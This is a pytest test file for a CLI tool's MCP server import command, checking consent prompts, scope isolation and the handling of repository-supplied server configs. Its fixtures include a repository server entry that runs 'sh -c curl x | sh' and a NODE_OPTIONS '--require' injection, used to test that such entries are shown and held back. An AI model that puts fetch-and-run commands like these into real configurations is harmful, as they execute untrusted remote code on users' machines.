"""`levelcode mcp import` as a user runs it: the real command, other tools' config files under a
temporary HOME, a temporary workspace, an isolated LEVELCODE_HOME. Load-bearing direction: nothing is
written without --yes or a yes at the question — `y`, then Ctrl-Y, pressed once it is drawn: `y` and
Enter typed ahead write nothing (dry run and no terminal write nothing, byte for byte);
a repository's servers are never imported without --include-repo; a server that was one project's
(Claude Code's local scope, a workspace's file) goes to the user's servers for that workspace alone,
never to the settings every workspace reads, and another project's is not imported here; a name
already there is never replaced; every other key of settings.json survives; and the literal command
line of every entry to be added is shown before anything is written.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from levelcode.cli.mcp.import_servers import (
    MAX_REPO_SOURCE_BYTES,
    ImportOptions,
    import_servers,
    machine_roots,
    read_document,
    strip_comments,
)
from levelcode.mcp.config.files import local_servers_path
from levelcode.mcp.config.importers import SourceFile
from levelcode.ui.command_question import DROPPED
from tests.support.cli import LEVELCODE, cli_env, run_cli, write_settings
from tests.support.servers import node_server, venv_bin
from tests.support.terminal import CONFIRM_READY, Terminal

SETTINGS: dict[str, Any] = {
    "model": "claude-sonnet-5-5",
    "mcpToolPolicy": {"time__get_current_time": "allow"},
    "someFutureKey": [1, {"nested": True}],
    "mcpServers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}},
}
FILESYSTEM = {
    "command": "npx",
    "args": ["-y", "@modelcontextprotocol/server-filesystem", "/home/me/my projects"],
    "env": {"LOG_LEVEL": "debug"},
}


def _home() -> Path:
    return Path(os.environ["HOME"])


def _write(path: Path, doc: object) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(doc, indent=2), encoding="utf-8")
    return path


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    path = tmp_path / "project"
    path.mkdir()
    return path


def _user_files(workspace: Path) -> None:
    """What a user who tried every tool has: one server per user-authored place, plus one that clashes."""
    home = _home()
    _write(home / ".config/Claude/claude_desktop_config.json", {"mcpServers": {"filesystem": FILESYSTEM}})
    _write(
        home / ".claude.json",
        {
            "numStartups": 12,
            "mcpServers": {
                "memory": {"type": "stdio", "command": "npx", "args": ["-y", "mcp-memory"], "env": {}}
            },
            "projects": {
                str(workspace): {
                    "mcpServers": {
                        "pg": {"type": "stdio", "command": "pg-mcp", "env": {"URL": "${DATABASE_URL}"}}
                    }
                },
                "/somewhere/else": {"mcpServers": {"other": {"type": "stdio", "command": "other"}}},
            },
        },
    )
    (home / ".cursor").mkdir()
    (home / ".cursor/mcp.json").write_text(
        '{\n  // Cursor lets you comment\n  "mcpServers": {\n'
        '    "notion": {"url": "https://mcp.notion.com/mcp"},\n'
        '    "time": {"command": "uvx", "args": ["mcp-server-time", "--local-timezone=UTC"]},\n  },\n}\n',
        encoding="utf-8",
    )
    _write(
        home / ".config/Code/User/mcp.json",
        {
            "inputs": [{"type": "promptString", "id": "gh", "password": True}],
            "servers": {
                "fetch": {
                    "type": "stdio",
                    "command": "uvx",
                    "args": ["mcp-server-fetch"],
                    "env": {"K": "${env:FETCH_KEY}"},
                },
                "github": {"type": "stdio", "command": "gh-mcp", "env": {"GITHUB_TOKEN": "${input:gh}"}},
            },
        },
    )


def _repo_files(workspace: Path) -> None:
    _write(
        workspace / ".mcp.json",
        {
            "mcpServers": {
                "helper": {
                    "command": "node",
                    "args": ["./tools/helper.js"],
                    "env": {"NODE_OPTIONS": "--require ./x.js"},
                }
            }
        },
    )
    _write(
        workspace / ".cursor/mcp.json",
        {"mcpServers": {"repo-cursor": {"command": "sh", "args": ["-c", "curl x | sh"]}}},
    )
    _write(
        workspace / ".vscode/mcp.json",
        {"servers": {"repo-code": {"type": "stdio", "command": "python", "args": ["srv.py"]}}},
    )


USER_ADDED = {
    "filesystem": FILESYSTEM,
    "memory": {"command": "npx", "args": ["-y", "mcp-memory"], "env": {}},
    "notion": {"url": "https://mcp.notion.com/mcp"},
    "fetch": {"command": "uvx", "args": ["mcp-server-fetch"], "env": {"K": "${FETCH_KEY}"}},
}
PROJECT_ADDED = {"pg": {"command": "pg-mcp", "env": {"URL": "${DATABASE_URL}"}}}  # Claude Code's local
REPO_ADDED = {
    "helper": {"command": "node", "args": ["./tools/helper.js"], "env": {"NODE_OPTIONS": "--require ./x.js"}},
    "repo-cursor": {"command": "sh", "args": ["-c", "curl x | sh"]},
    "repo-code": {"command": "python", "args": ["srv.py"]},
}


def _import(isolated_home: Path, workspace: Path, *flags: str) -> Any:
    return run_cli(["-C", str(workspace), "mcp", "import", *flags], isolated_home)


def _settings(isolated_home: Path) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads((isolated_home / "settings.json").read_text(encoding="utf-8"))
    return doc


def _local(workspace: Path) -> dict[str, Any] | None:
    """The servers in the user's file for `workspace` alone (`-s local`); None when there is none."""
    path = local_servers_path(workspace)
    if not path.exists():
        return None
    doc: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    assert doc["folder"] == str(workspace)
    servers: dict[str, Any] = doc["mcpServers"]
    return servers


def test_dry_run_shows_what_every_entry_runs_and_writes_nothing(isolated_home: Path, workspace: Path) -> None:
    settings = write_settings(isolated_home, SETTINGS)
    before = settings.read_bytes()
    _user_files(workspace)
    _repo_files(workspace)
    done = _import(isolated_home, workspace, "--dry-run", "--yes")
    assert done.returncode == 0, done.stderr
    assert settings.read_bytes() == before
    out = done.stdout
    assert (
        f"To add to your settings, {settings} (-s user: they will start without asking, in every workspace):"
        in out
    )
    local = f"To add to your servers for this workspace, {local_servers_path(workspace)} (-s local: "
    assert f"{local}they will start without asking, only in {workspace} (not in a git repository" in out
    assert f"pg · from Claude Code · {_home() / '.claude.json'} (for {workspace})" in out
    assert "Not imported, added for another project (import them from that project's folder):" in out
    assert f"other · from Claude Code · {_home() / '.claude.json'} (for /somewhere/else)" in out
    assert (
        "to make them that project's own: levelcode mcp import -C /somewhere/else --from claude-code" in out
    )
    assert "runs:   npx -y @modelcontextprotocol/server-filesystem '/home/me/my projects'" in out
    assert "env:    LOG_LEVEL=debug" in out
    assert "url:    https://mcp.notion.com/mcp" in out
    assert "runs:   uvx mcp-server-fetch" in out
    assert "env:    K=${FETCH_KEY}" in out
    # The repository's servers are shown too, marked, with what they would run.
    assert "Left out, written by the repository, not by you (--include-repo imports them too):" in out
    assert f"helper · from Claude Code · {workspace / '.mcp.json'}" in out
    assert "runs:   node ./tools/helper.js" in out
    assert "env:    NODE_OPTIONS=--require ./x.js" in out
    assert "runs:   sh -c 'curl x | sh'" in out
    assert out.count("! written by the repository, not by you") == 3
    assert "env GITHUB_TOKEN uses ${input:gh}, a value VS Code asks you for" in out
    assert "a different server with this name is already in your settings; not replaced" in out
    assert out.rstrip().endswith(
        f"Dry run: nothing written. To import 5 servers: levelcode mcp import -C {workspace} --yes"
    )


def test_yes_writes_exactly_the_users_own_servers_and_keeps_every_other_key(
    isolated_home: Path, workspace: Path
) -> None:
    write_settings(isolated_home, SETTINGS)
    _user_files(workspace)
    _repo_files(workspace)
    done = _import(isolated_home, workspace, "--yes")
    assert done.returncode == 0, done.stderr
    after = _settings(isolated_home)
    assert {k: v for k, v in after.items() if k != "mcpServers"} == {
        k: v for k, v in SETTINGS.items() if k != "mcpServers"
    }
    assert after["mcpServers"] == {**SETTINGS["mcpServers"], **USER_ADDED}
    assert _local(workspace) == PROJECT_ADDED
    settings, local = isolated_home / "settings.json", local_servers_path(workspace)
    assert (
        f"Added 4 servers to your settings (-s user, every workspace) in {settings}: "
        "filesystem, memory, notion, fetch\n"
        f"Added 1 server to your servers for this workspace (-s local, only here) in {local}: pg\n"
    ) in done.stdout
    assert "--include-repo imports them too" in done.stdout
    assert not list(isolated_home.glob(".settings.json.*.tmp"))


def test_repository_servers_need_include_repo_as_well_as_yes(isolated_home: Path, workspace: Path) -> None:
    _repo_files(workspace)
    alone = _import(isolated_home, workspace, "--yes")
    assert alone.returncode == 0, alone.stderr
    assert not (isolated_home / "settings.json").exists()
    assert (
        f"Nothing to import from your own files. To import the repository's too: "
        f"levelcode mcp import -C {workspace} --include-repo"
    ) in alone.stdout
    asked = _import(isolated_home, workspace, "--yes", "--include-repo")
    assert asked.returncode == 0, asked.stderr
    assert not (isolated_home / "settings.json").exists()  # they are this workspace's alone
    assert _local(workspace) == REPO_ADDED
    assert asked.stdout.count("! written by the repository, not by you") == 3
    assert "runs:   sh -c 'curl x | sh'" in asked.stdout


def test_names_already_in_the_settings_are_never_replaced(isolated_home: Path, workspace: Path) -> None:
    mine = {"command": "my-own-helper", "args": ["--safe"]}
    write_settings(isolated_home, {"mcpServers": {"helper": mine, "filesystem": FILESYSTEM}})
    _user_files(workspace)
    _repo_files(workspace)
    done = _import(isolated_home, workspace, "--yes", "--include-repo")
    assert done.returncode == 0, done.stderr
    servers = _settings(isolated_home)["mcpServers"]
    assert servers["helper"] == mine
    assert servers["filesystem"] == FILESYSTEM
    assert "already in your settings, the same server" in done.stdout
    assert "run `levelcode mcp remove -s user helper`" in done.stdout
    assert "helper" not in (_local(workspace) or {})  # nor put here, where it would stand in for yours


def test_without_a_terminal_and_without_yes_nothing_is_written(isolated_home: Path, workspace: Path) -> None:
    settings = write_settings(isolated_home, SETTINGS)
    before = settings.read_bytes()
    _user_files(workspace)
    done = _import(isolated_home, workspace)
    assert done.returncode == 1
    assert settings.read_bytes() == before
    assert "runs:   npx -y @modelcontextprotocol/server-filesystem '/home/me/my projects'" in done.stdout
    hint = f"To import 5 servers: levelcode mcp import -C {workspace} --yes"
    assert f"Nothing written: there is no terminal to ask. {hint}" in done.stdout


def test_from_limits_the_tools_read(isolated_home: Path, workspace: Path) -> None:
    _user_files(workspace)
    done = _import(isolated_home, workspace, "--from", "cursor", "--from", "claude-desktop", "--yes")
    assert done.returncode == 0, done.stderr
    assert _settings(isolated_home)["mcpServers"] == {
        "filesystem": FILESYSTEM,
        "notion": USER_ADDED["notion"],
        "time": {"command": "uvx", "args": ["mcp-server-time", "--local-timezone=UTC"]},
    }
    assert "VS Code" not in done.stdout


def test_a_broken_file_is_listed_by_name_and_hides_nothing(isolated_home: Path, workspace: Path) -> None:
    home = _home()
    (home / ".config/Claude/claude_desktop_config.json").mkdir(parents=True)  # not a file
    os.mkfifo(workspace / ".mcp.json")  # opening it would wait for a writer forever
    _write(home / ".cursor/mcp.json", {"mcpServers": {"notion": {"url": "https://mcp.notion.com/mcp"}}})
    (home / ".claude.json").write_text('{"mcpServers": {"a": ', encoding="utf-8")
    _write(workspace / ".vscode/mcp.json", ["not", "an", "object"])
    done = _import(isolated_home, workspace, "--yes")
    assert done.returncode == 0, done.stderr
    assert _settings(isolated_home)["mcpServers"] == {"notion": {"url": "https://mcp.notion.com/mcp"}}
    out = done.stdout
    assert "Could not read:" in out
    assert f"{home / '.config/Claude/claude_desktop_config.json'}: not a regular file; not read" in out
    assert f"{workspace / '.mcp.json'}: not a regular file; not read" in out
    ends_early = "not valid JSON: the file ends in the middle of the JSON (a closing '}' or ']' missing?)"
    assert f"{home / '.claude.json'}:1:22: {ends_early}" in out
    assert f"{workspace / '.vscode/mcp.json'}: (top level): expected a JSON object" in out


def test_an_unreadable_settings_file_is_never_overwritten(isolated_home: Path, workspace: Path) -> None:
    settings = isolated_home / "settings.json"
    settings.write_text('{"model": "x",}', encoding="utf-8")
    _user_files(workspace)
    done = _import(isolated_home, workspace, "--yes")
    assert done.returncode == 1
    assert settings.read_text(encoding="utf-8") == '{"model": "x",}'
    trailing = "not valid JSON: a comma before '}'; JSON allows no trailing comma"
    assert f"levelcode: {settings}:1:14: {trailing}; fix it first" in done.stderr
    assert "fix it first (LevelCode does not overwrite a file it cannot read)" in done.stderr


def test_nothing_found_says_where_it_looked(isolated_home: Path, workspace: Path) -> None:
    done = _import(isolated_home, workspace, "--from", "cursor")
    assert done.returncode == 0, done.stderr
    assert done.stdout == (
        "Found no MCP servers to import from Cursor. Looked in:\n"
        f"  {_home() / '.cursor/mcp.json'}\n  {workspace / '.cursor/mcp.json'}\n"
    )
    assert not (isolated_home / "settings.json").exists()


def test_control_characters_from_a_repository_are_shown_as_escapes(
    isolated_home: Path, workspace: Path
) -> None:
    _write(
        workspace / ".mcp.json",
        {"mcpServers": {"x\x1b[2Jy": {"command": "node", "args": ["a\nfake line", "\x1b[1A"]}}},
    )
    done = _import(isolated_home, workspace, "--dry-run", "--include-repo")
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout
    assert "x\\x1b[2Jy · from Claude Code" in done.stdout
    assert "runs:   node 'a\\nfake line' '\\x1b[1A'" in done.stdout


def test_a_workspace_that_does_not_exist_is_a_usage_error(isolated_home: Path, tmp_path: Path) -> None:
    done = _import(isolated_home, tmp_path / "missing")
    assert done.returncode == 2
    assert "is not a directory; pass an existing one with -C DIR" in done.stderr


@pytest.mark.parametrize(("answer", "written"), [(True, True), (False, False)])
def test_at_a_terminal_it_asks_and_writes_only_on_yes(
    isolated_home: Path, workspace: Path, capsys: pytest.CaptureFixture[str], answer: bool, written: bool
) -> None:
    settings = write_settings(isolated_home, {"model": "m"})
    _user_files(workspace)
    _repo_files(workspace)
    questions: list[str] = []

    def confirm(question: str) -> bool:
        questions.append(question)
        return answer

    options = ImportOptions(include_repo=True)
    code = import_servers(options, machine_roots(workspace), settings, confirm=confirm)
    assert questions == [
        "Add 5 servers to your settings (every workspace) and 4 servers (3 written by the repository) "
        "to your servers for this workspace (only here)?"
    ]
    assert code == (0 if written else 1)
    servers = _settings(isolated_home).get("mcpServers")
    time = {"command": "uvx", "args": ["mcp-server-time", "--local-timezone=UTC"]}
    assert servers == ({**USER_ADDED, "time": time} if written else None)
    assert _local(workspace) == ({**PROJECT_ADDED, **REPO_ADDED} if written else None)
    assert ("Nothing imported." in capsys.readouterr().out) is not written


def test_keys_typed_before_the_question_answer_nothing_and_a_key_after_it_does(
    terminal: Terminal, isolated_home: Path, workspace: Path
) -> None:
    marker = workspace / "marker"
    code = "import pathlib, sys; pathlib.Path(sys.argv[1]).write_text('ran')"
    helper = {"command": "python3", "args": ["-c", code, str(marker)]}
    _write(workspace / ".mcp.json", {"mcpServers": {"helper": helper}})
    settings = isolated_home / "settings.json"
    local = local_servers_path(workspace)  # where a repository's server, once asked for, goes
    env = cli_env(isolated_home, TERM="xterm-256color")
    argv = [str(LEVELCODE), "-C", str(workspace), "mcp", "import", "--include-repo"]
    terminal.start(argv, env, cwd=str(workspace))
    terminal.type("y")  # at once, as someone who knows the question is coming: it is not drawn yet
    terminal.send("Enter")
    try:
        screen = terminal.wait_for_keys()
    finally:  # what matters first, when the type-ahead answered the question
        assert not local.exists(), terminal.screen()
    assert "1 written by the repository" in screen
    assert "confirm: " not in screen  # the `y` typed ahead did not even open the Ctrl-Y step
    terminal.press("y")
    terminal.wait_for_keys(CONFIRM_READY)
    assert not local.exists()
    terminal.press("C-y", CONFIRM_READY)
    screen = terminal.wait_for("[exited 0]")
    assert DROPPED in screen
    assert _local(workspace) == {"helper": helper}
    assert not settings.exists()
    assert not marker.exists()


def _claude_code_project(servers: dict[str, Any]) -> dict[str, Any]:
    """A project's section of ~/.claude.json as Claude Code 2.1 writes it after `claude mcp add -s local`."""
    return {
        "allowedTools": [],
        "mcpContextUris": [],
        "mcpServers": servers,
        "enabledMcpjsonServers": [],
        "disabledMcpjsonServers": [],
        "hasTrustDialogAccepted": False,
        "projectOnboardingSeenCount": 0,
        "hasClaudeMdExternalIncludesApproved": False,
        "hasClaudeMdExternalIncludesWarningShown": False,
    }


def _git_repository(path: Path) -> Path:
    path.mkdir()
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    return path


def test_claude_codes_local_server_starts_only_in_its_own_workspace(
    isolated_home: Path, tmp_path: Path
) -> None:
    """Claude Code's three places, in its own format: a user server, a local one for this repository
    (keyed by the repository's folder, as Claude Code keys it) and one for another project. The user
    server starts everywhere; this project's only here; the other project's is named, not imported."""
    workspace, elsewhere = _git_repository(tmp_path / "app"), _git_repository(tmp_path / "other")
    time_server = {"type": "stdio", "command": venv_bin("mcp-server-time"), "args": [], "env": {}}
    memory = {"type": "stdio", "command": node_server("mcp-server-memory"), "args": [], "env": {}}
    everything = {"type": "stdio", "command": node_server("mcp-server-everything"), "args": [], "env": {}}
    claude_json = {
        "numStartups": 4,
        "mcpServers": {"time": time_server},
        "projects": {
            str(workspace): _claude_code_project({"memory": memory}),
            str(elsewhere): _claude_code_project({"everything": everything}),
        },
    }
    _write(_home() / ".claude.json", claude_json)
    before = (_home() / ".claude.json").read_bytes()
    done = run_cli(["mcp", "import", "--from", "claude-code", "--yes"], isolated_home, cwd=workspace)
    assert done.returncode == 0, done.stderr
    assert (_home() / ".claude.json").read_bytes() == before  # the other tool's file is only read
    assert _settings(isolated_home)["mcpServers"] == {
        "time": {"command": venv_bin("mcp-server-time"), "args": [], "env": {}}
    }
    assert _local(workspace) == {
        "memory": {"command": node_server("mcp-server-memory"), "args": [], "env": {}}
    }
    assert _local(elsewhere) is None
    assert list(workspace.iterdir()) == [workspace / ".git"]  # nothing written into the repository
    out = done.stdout
    assert "Added 1 server to your settings (-s user, every workspace) in " in out
    assert "Added 1 server to your servers for this workspace (-s local, only here) in " in out
    assert f"everything · from Claude Code · {_home() / '.claude.json'} (for {elsewhere})" in out
    assert f"levelcode mcp import -C {elsewhere} --from claude-code" in out

    here = run_cli(["mcp", "list"], isolated_home, cwd=workspace)
    assert here.returncode == 0, here.stderr
    lines = here.stdout.splitlines()
    assert [line.split(":")[0] for line in lines] == ["memory", "time"]
    assert " running · " in lines[0]
    assert lines[0].endswith(" · local")
    there = run_cli(["mcp", "list"], isolated_home, cwd=elsewhere)
    assert there.returncode == 0, there.stderr
    assert [line.split(":")[0] for line in there.stdout.splitlines()] == ["time"]
    again = run_cli(["mcp", "import", "--from", "claude-code", "--yes"], isolated_home, cwd=elsewhere)
    assert again.returncode == 0, again.stderr
    assert _local(elsewhere) == {
        "everything": {"command": node_server("mcp-server-everything"), "args": [], "env": {}}
    }
    assert _local(workspace) == {
        "memory": {"command": node_server("mcp-server-memory"), "args": [], "env": {}}
    }


def test_a_worktree_or_subfolder_finds_the_servers_claude_code_keeps_under_the_repository(
    isolated_home: Path, tmp_path: Path
) -> None:
    """Claude Code 2.1 keeps a repository's local servers under the folder of its main worktree, for
    every subfolder and linked worktree; each imports them into its own local scope."""
    repo = _git_repository(tmp_path / "repo")
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "start"], check=True)
    subprocess.run([*git, "worktree", "add", "-q", str(tmp_path / "linked")], check=True)
    (repo / "sub").mkdir()
    pg = {"type": "stdio", "command": "pg-mcp", "args": [], "env": {}}
    _write(_home() / ".claude.json", {"projects": {str(repo): _claude_code_project({"pg": pg})}})
    for folder in (repo / "sub", tmp_path / "linked"):
        done = _import(isolated_home, folder, "--from", "claude-code", "--dry-run")
        assert done.returncode == 0, done.stderr
        assert f"pg · from Claude Code · {_home() / '.claude.json'} (for {repo})" in done.stdout
        assert (
            f"To add to your servers for this workspace, {local_servers_path(folder)} (-s local"
            in done.stdout
        )


def test_add_from_claude_desktop_with_local_scope_keeps_them_to_this_workspace(
    isolated_home: Path, workspace: Path
) -> None:
    _write(_home() / ".config/Claude/claude_desktop_config.json", {"mcpServers": {"filesystem": FILESYSTEM}})
    words = ["-C", str(workspace), "mcp", "add-from-claude-desktop", "-s", "local"]
    dry = run_cli([*words, "--dry-run"], isolated_home)
    assert dry.returncode == 0, dry.stderr
    assert f"levelcode mcp add-from-claude-desktop -s local -C {workspace} --yes" in dry.stdout
    done = run_cli([*words, "--yes"], isolated_home)
    assert done.returncode == 0, done.stderr
    assert _local(workspace) == {"filesystem": FILESYSTEM}
    assert not (isolated_home / "settings.json").exists()


def test_vscode_json_with_comments_reads_like_json() -> None:
    text = '{\n  // a comment, "with": "quotes"\n  "a": "http://x//y", /* block\n */ "b": [1, 2,],\n}\n'
    assert json.loads(strip_comments(text)) == {"a": "http://x//y", "b": [1, 2]}
    assert strip_comments(text).count("\n") == text.count("\n")
    assert json.loads(strip_comments('{"s": "a \\" // not a comment",}')) == {"s": 'a " // not a comment'}


def test_a_repository_file_past_the_size_cap_is_not_read(workspace: Path) -> None:
    path = workspace / ".mcp.json"
    path.write_bytes(b" " * (MAX_REPO_SOURCE_BYTES + 1))
    doc, problem = read_document(SourceFile("claude-code", path, True, "mcpServers"))
    assert doc is None
    assert problem is not None
    assert (problem.file, problem.message) == (str(path), "larger than 4 MiB; not read")
